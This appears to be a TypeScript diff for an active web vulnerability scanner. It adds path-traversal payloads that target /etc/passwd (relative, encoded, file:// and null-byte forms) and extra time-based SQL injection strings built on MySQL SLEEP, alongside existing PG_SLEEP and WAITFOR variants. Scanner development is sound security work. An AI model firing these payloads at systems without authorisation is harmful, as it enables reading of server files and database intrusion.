@@ -286,9 +286,15 @@ function fileProof(text: string): { match: string; file: string } | null {
 export async function pathTraversal(context: ActiveContext, point: InsertionPoint): Promise<boolean> {
   const base = await original(context, point.endpoint);
   if (fileProof(base.response.text)) return false;
+  const v = point.original;
+  const directory = v.includes('/') ? v.slice(0, v.lastIndexOf('/')) : '';
   const payloads = [
     '/etc/passwd',
     '../../../../../../../../../../etc/passwd',
+    // Apps that check the value starts as expected (a folder, a file name).
+    ...(v ? [`${v}/../../../../../../../../../../etc/passwd`] : []),
+    ...(directory ? [`${directory}/../../../../../../../../../../etc/passwd`] : []),
+    'file:///etc/passwd',
     '....//....//....//....//....//....//....//....//etc/passwd',
     '..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
     '../../../../../../../../../../etc/passwd\u0000',
@@ -427,6 +433,8 @@ export async function timeBasedSqlInjection(context: ActiveContext, point: Inser
     (s) => `${v}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
     (s) => `${v} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)`,
     (s) => `${v}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
+    (s) => `${v}') AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
+    (s) => `${v}) AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- `,
     (s) => `${v}';SELECT PG_SLEEP(${s})-- `,
     (s) => `${v}' AND 1=(SELECT 1 FROM PG_SLEEP(${s}))-- `,
     (s) => `${v}';WAITFOR DELAY '0:0:${s}'-- `,
